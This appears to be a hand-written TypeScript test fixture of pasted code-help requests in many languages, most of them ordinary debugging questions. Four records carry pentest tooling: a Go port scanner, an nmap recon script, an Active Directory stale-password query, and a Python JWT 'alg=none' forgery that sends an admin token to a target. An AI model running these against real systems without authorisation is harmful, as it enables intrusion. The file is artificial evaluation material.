/**
 * Held-out batch 70: pasted source code (fenced or not, with comments and prose in the staff's
 * language) from the six organisations of the batch. Hand-written.
 */
import { f, rec, v, type DraftRecord } from '../dsl';

const code = (body: ReturnType<typeof f>) => v('source_code.snippet', body);

export const BATCH70_SOURCE_CODE: DraftRecord[] = [
  rec('code_python_en', f`This is meant to stop people double-booking a bed across our two shelters but it lets duplicates through when the name has a trailing space. Fix?

\`\`\`python
${code(f`import pandas as pd

def find_double_bookings(path: str) -> pd.DataFrame:
    df = pd.read_csv(path, parse_dates=["night"])
    df["guest_key"] = df["first_name"].str.lower() + "|" + df["last_name"].str.lower() + "|" + df["birth_year"].astype(str)
    dupes = df[df.duplicated(subset=["guest_key", "night"], keep=False)]
    return dupes.sort_values(["night", "guest_key"])

if __name__ == "__main__":
    print(find_double_bookings("bookings_march.csv").to_string(index=False))`)}
\`\`\``),

  rec('code_java_de', f`Kannst du prüfen, ob diese Methode die UIC-Prüfziffer für Güterwagennummern richtig berechnet? Bei manchen Wagen kommt was anderes raus als im Wagenbuch.

${code(f`/** Prüfziffer nach UIC-Merkblatt 920-1 (Luhn-Variante, Gewichte 2-1-2-1…). */
public static int uicPruefziffer(String elfStellen) {
    if (!elfStellen.matches("\\\\d{11}")) {
        throw new IllegalArgumentException("Genau 11 Ziffern erwartet: " + elfStellen);
    }
    int summe = 0;
    for (int i = 0; i < 11; i++) {
        int z = elfStellen.charAt(i) - '0';
        int p = (i % 2 == 0) ? z * 2 : z;
        summe += (p > 9) ? p - 9 : p;
    }
    return (10 - summe % 10) % 10;
}`)}

Muss man die Quersumme bei zweistelligen Produkten bilden oder wirklich -9?`),

  rec('code_ts_fr', f`Je dois calculer les frais de retour selon le pays et le motif. Ça te paraît propre ou je refais avec une table ?

\`\`\`ts
${code(f`type Motif = 'taille' | 'defaut' | 'changement_avis' | 'erreur_envoi';

interface Retour {
  pays: 'FR' | 'BE' | 'LU' | 'CH';
  motif: Motif;
  montantTTC: number;
  clientPremium: boolean;
}

export function fraisRetour(r: Retour): number {
  if (r.motif === 'defaut' || r.motif === 'erreur_envoi') return 0;
  if (r.clientPremium) return 0;
  const base = r.pays === 'CH' ? 9.9 : 4.9;
  return r.montantTTC >= 150 ? 0 : base;
}`)}
\`\`\``),

  rec('code_sql_it', f`Questa query per il report settimanale del laboratorio di embriologia è lentissima (30 s). Come la ottimizzo?

${code(f`SELECT c.clinica,
       date_trunc('week', o.data_pickup) AS settimana,
       count(*) FILTER (WHERE e.giorno = 5 AND e.grado IN ('AA','AB','BA')) AS blastocisti_top,
       count(*) FILTER (WHERE e.giorno = 5) AS blastocisti_tot,
       round(avg(o.ovociti_mii)::numeric, 1) AS mii_medi
FROM cicli c
JOIN ovociti o ON o.ciclo_id = c.id
LEFT JOIN embrioni e ON e.ciclo_id = c.id
WHERE o.data_pickup >= now() - interval '12 weeks'
GROUP BY c.clinica, settimana
ORDER BY settimana DESC, c.clinica;`)}

Gli indici ci sono su ciclo_id in entrambe le tabelle.`),

  rec('code_r_es', f`Hola, este script de R cuenta las detecciones de las cámaras trampa del Parque por especie y mes, pero me salen ciervos duplicados cuando una misma ráfaga tiene varias fotos. ¿Cómo agrupo por eventos de 5 minutos?

${code(f`library(dplyr)
library(lubridate)

fotos <- read.csv("detecciones_2024.csv") |>
  mutate(fecha_hora = ymd_hms(fecha_hora),
         mes = floor_date(fecha_hora, "month"))

resumen <- fotos |>
  filter(especie != "vacia", confianza >= 0.8) |>
  group_by(camara, especie, mes) |>
  summarise(detecciones = n(), .groups = "drop") |>
  arrange(mes, desc(detecciones))

write.csv(resumen, "resumen_mensual.csv", row.names = FALSE)`)}`),

  rec('code_js_pt', f`Fiz este Apps Script para enviar a escala semanal aos voluntários da sopa dos pobres, mas ele envia a mesma linha a todos. Onde está o erro?

${code(f`function enviarEscala() {
  const folha = SpreadsheetApp.getActive().getSheetByName('Escala');
  const linhas = folha.getDataRange().getValues().slice(1);
  linhas.forEach(function (l) {
    const [nome, email, dia, turno] = l;
    if (!email) return;
    const corpo = 'Olá ' + nome + ',\\n\\nEsta semana estás na ' + dia + ' (' + turno + ').\\nObrigado!';
    MailApp.sendEmail(email, 'Escala da semana', corpo);
  });
}`)}`),

  rec('code_go_nl', f`Voor een klantopdracht schrijf ik een kleine TCP-connect scanner (scope staat in de opdrachtbevestiging). Is dit netjes qua concurrency?

\`\`\`go
${code(f`package main

import (
	"fmt"
	"net"
	"sync"
	"time"
)

func scan(host string, ports []int, workers int) []int {
	var mu sync.Mutex
	var open []int
	jobs := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for p := range jobs {
				c, err := net.DialTimeout("tcp", fmt.Sprintf("%s:%d", host, p), 800*time.Millisecond)
				if err == nil {
					c.Close()
					mu.Lock()
					open = append(open, p)
					mu.Unlock()
				}
			}
		}()
	}
	for _, p := range ports {
		jobs <- p
	}
	close(jobs)
	wg.Wait()
	return open
}`)}
\`\`\``),

  rec('code_csharp_pl', f`Metoda do wyliczania procentu masy hamującej składu. Dla niektórych pociągów wychodzi powyżej 200%, co jest bez sensu:

${code(f`public static decimal ProcentMasyHamujacej(IEnumerable<Wagon> sklad, Lokomotywa lok)
{
    decimal masaHamujaca = lok.MasaHamujaca + sklad.Sum(w => w.HamulecWlaczony ? w.MasaHamujaca : 0m);
    decimal masaPociagu = lok.Masa + sklad.Sum(w => w.MasaWlasna + w.Ladunek);
    if (masaPociagu == 0) throw new InvalidOperationException("Pusty skład");
    return Math.Round(masaHamujaca / masaPociagu * 100m, 1);
}`)}

Ładunek jest w kg, a reszta w tonach – czy to może być to?`),

  rec('code_php_ro', f`Funcția asta ar trebui să găsească primul interval liber pentru o puncție ovariană, dar uneori returnează un interval peste pauza de prânz. Ce greșesc?

${code(f`function primulIntervalLiber(array $programari, DateTimeImmutable $zi, int $durataMin = 30): ?DateTimeImmutable
{
    $start = $zi->setTime(8, 0);
    $sfarsit = $zi->setTime(15, 0);
    $pauza = [$zi->setTime(12, 0), $zi->setTime(12, 30)];

    for ($t = $start; $t < $sfarsit; $t = $t->modify("+{$durataMin} minutes")) {
        if ($t >= $pauza[0] && $t < $pauza[1]) continue;
        $ocupat = array_filter($programari, fn($p) => $p['inceput'] <= $t && $p['sfarsit'] > $t);
        if (!$ocupat) return $t;
    }
    return null;
}`)}`),

  rec('code_swift_ja', f`返品受付アプリでQRコードを読み取るビューです。読み取り後にカメラが止まらず、同じコードが何回も送信されてしまいます。

\`\`\`swift
${code(f`final class ReturnScanner: NSObject, AVCaptureMetadataOutputObjectsDelegate {
    private let session = AVCaptureSession()
    var onCode: ((String) -> Void)?

    func metadataOutput(_ output: AVCaptureMetadataOutput,
                        didOutput objects: [AVMetadataObject],
                        from connection: AVCaptureConnection) {
        guard let obj = objects.first as? AVMetadataMachineReadableCodeObject,
              let value = obj.stringValue, value.hasPrefix("RT-JP-") else { return }
        onCode?(value)
    }
}`)}
\`\`\`

session.stopRunning() はどこで呼べばいいですか？`),

  rec('code_python_ko', f`고객사 웹앱 점검용으로 JWT alg=none 우회가 되는지 확인하는 스크립트입니다. 토큰은 테스트 계정 것만 씁니다. 개선할 점 있을까요?

${code(f`import base64, json, sys
import requests

def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

def none_token(original: str, **claims) -> str:
    header_b64, payload_b64, _ = original.split(".")
    payload = json.loads(base64.urlsafe_b64decode(payload_b64 + "=="))
    payload.update(claims)
    header = {"alg": "none", "typ": "JWT"}
    return f"{b64url(json.dumps(header).encode())}.{b64url(json.dumps(payload).encode())}."

if __name__ == "__main__":
    target, tok = sys.argv[1], sys.argv[2]
    forged = none_token(tok, role="admin")
    r = requests.get(f"{target}/api/me", headers={"Authorization": f"Bearer {forged}"}, timeout=5)
    print(r.status_code, r.text[:200])`)}`),

  rec('code_cpp_zh', f`这段代码用来检查列车编组是否超长（到发线有效长度），但是换算长度好像算错了，能帮我看看吗？

${code(f`struct Wagon { double lengthM; bool isLoco; };

// 换算长度：每辆车长度除以11米
double convertedLength(const std::vector<Wagon>& train) {
    double total = 0.0;
    for (const auto& w : train) {
        total += w.lengthM / 11;
    }
    return std::round(total * 10) / 10;
}

bool fitsSiding(const std::vector<Wagon>& train, double sidingM) {
    double real = 0.0;
    for (const auto& w : train) real += w.lengthM;
    return real + 30.0 <= sidingM;   // 预留30米安全距离
}`)}`),

  rec('code_bash_ru', f`Скрипт для первичной разведки на проекте (внутренний пентест, скоуп подписан). Подскажи, как распараллелить nmap по подсетям?

\`\`\`bash
${code(f`#!/usr/bin/env bash
set -euo pipefail
SCOPE=scope.txt
OUT=recon_$(date +%F)
mkdir -p "$OUT"

while read -r net; do
  [[ -z "$net" || "$net" == \\#* ]] && continue
  name=$(echo "$net" | tr '/.' '__')
  nmap -sS -Pn -T4 --top-ports 1000 -oA "$OUT/$name" "$net"
done < "$SCOPE"

grep -h "open" "$OUT"/*.gnmap | awk '{print $2}' | sort -u > "$OUT/live_hosts.txt"
echo "Живых хостов: $(wc -l < "$OUT/live_hosts.txt")"`)}
\`\`\``),

  rec('code_sql_sv', f`Kan du granska den här migreringen innan vi kör den mot produktionen för embryoregistret? Jag är osäker på om ON DELETE CASCADE är rätt här.

${code(f`-- V42__frysta_embryon.sql
CREATE TABLE frysta_embryon (
    id            BIGSERIAL PRIMARY KEY,
    cykel_id      BIGINT NOT NULL REFERENCES cykler(id) ON DELETE CASCADE,
    straw_kod     TEXT NOT NULL UNIQUE,
    frysdatum     DATE NOT NULL,
    utvecklingsdag SMALLINT CHECK (utvecklingsdag BETWEEN 3 AND 7),
    kvalitet      TEXT,
    tank          TEXT NOT NULL,
    kanister      SMALLINT NOT NULL
);
CREATE INDEX ix_frysta_embryon_cykel ON frysta_embryon(cykel_id);`)}`),

  rec('code_ruby_fi', f`Tämä Rails-tehtävä tekee kuukausiraportin seurakunnan lahjoituksista, mutta summa ei täsmää kirjanpidon kanssa. Epäilen pyöristystä:

${code(f`namespace :lahjoitukset do
  desc "Kuukausiraportti"
  task :raportti, [:kuukausi] => :environment do |_, args|
    alku = Date.parse("#{args[:kuukausi]}-01")
    loppu = alku.end_of_month
    rivit = Lahjoitus.where(pvm: alku..loppu).group(:kohde).sum(:summa_euroa)
    rivit.each do |kohde, summa|
      puts format("%-30s %10.2f", kohde, summa.to_f)
    end
    puts format("%-30s %10.2f", "YHTEENSÄ", rivit.values.sum.to_f)
  end
end`)}`),

  rec('code_vba_he', f`יש לי מאקרו באקסל שמפיק קבלות לתורמים של המקלט, אבל הוא נתקע כשיש שורה ריקה באמצע. אפשר לתקן?

${code(f`Sub HafakatKabalot()
    Dim ws As Worksheet, i As Long, lastRow As Long
    Set ws = ThisWorkbook.Sheets("תרומות")
    lastRow = ws.Cells(ws.Rows.Count, 1).End(xlUp).Row
    For i = 2 To lastRow
        Do While ws.Cells(i, 3).Value <> ""
            Call YetzerKabala(ws.Cells(i, 1).Value, ws.Cells(i, 2).Value, ws.Cells(i, 3).Value)
            i = i + 1
        Loop
    Next i
End Sub`)}`),

  rec('code_powershell_el', f`Στο εσωτερικό pentest θέλουμε να βρούμε λογαριασμούς με "Password never expires" και παλιό pwdLastSet. Είναι σωστό αυτό το script;

${code(f`Import-Module ActiveDirectory
$orio = (Get-Date).AddDays(-365)
Get-ADUser -Filter { PasswordNeverExpires -eq $true -and Enabled -eq $true } -Properties pwdLastSet, LastLogonDate, MemberOf |
    Where-Object { [DateTime]::FromFileTime($_.pwdLastSet) -lt $orio } |
    Select-Object SamAccountName,
        @{n='PwdLastSet'; e={[DateTime]::FromFileTime($_.pwdLastSet)}},
        LastLogonDate,
        @{n='Admin'; e={($_.MemberOf -match 'Admins').Count -gt 0}} |
    Export-Csv .\\pne_accounts.csv -NoTypeInformation -Encoding UTF8`)}`),

  rec('diff_uk', f`Поясни, будь ласка, що змінює цей коміт у сервісі розрахунку простою вагонів і чи не зламає він старі накладні:

${code(f`--- a/prostii/rozrakhunok.py
+++ b/prostii/rozrakhunok.py
@@ -18,9 +18,12 @@ def plata_za_prostii(vagon, pributtia, vidpravlennia, taryf):
-    godyny = (vidpravlennia - pributtia).total_seconds() / 3600
-    pilgovi = 24
+    godyny = (vidpravlennia - pributtia).total_seconds() / 3600
+    pilgovi = 36 if vagon.typ == "цистерна" else 24
     platni = max(0, godyny - pilgovi)
-    return round(platni * taryf, 2)
+    dobovi = math.ceil(platni / 24)
+    return round(dobovi * taryf * 24, 2)`)}`),

  rec('code_ts_id', f`Halo, fungsi ini untuk menghitung denda keterlambatan bongkar muat gerbong (demurrage) di aplikasi kami. Tolong cek apakah pembulatannya benar sesuai aturan "per 6 jam dibulatkan ke atas":

${code(f`export function hitungDenda(jamTiba: Date, jamSelesai: Date, tarifPer6Jam: number, jamBebas = 12): number {
  const totalJam = (jamSelesai.getTime() - jamTiba.getTime()) / 36e5;
  const jamKenaDenda = Math.max(0, totalJam - jamBebas);
  const blok = Math.ceil(jamKenaDenda / 6);
  return blok * tarifPer6Jam;
}`)}`),

  rec('code_python_th', f`สคริปต์นี้ใช้ดึงข้อมูลจากเซ็นเซอร์วัดระดับน้ำในอุทยานแห่งชาติแล้วแจ้งเตือนเมื่อน้ำขึ้นเร็ว แต่มันแจ้งเตือนซ้ำทุก 5 นาที ช่วยแก้ให้หน่อยครับ

${code(f`import time
import requests

THRESHOLD_CM_PER_HOUR = 20
last_alert = {}

def check(station: dict) -> None:
    rise = station["level_cm"] - station["level_cm_1h_ago"]
    if rise >= THRESHOLD_CM_PER_HOUR:
        send_line_notify(f"⚠️ สถานี {station['name']} น้ำขึ้น {rise} ซม./ชม.")
        last_alert[station["id"]] = time.time()

while True:
    for s in requests.get("https://sensors.park.local/api/stations", timeout=10).json():
        check(s)
    time.sleep(300)`)}`),
];
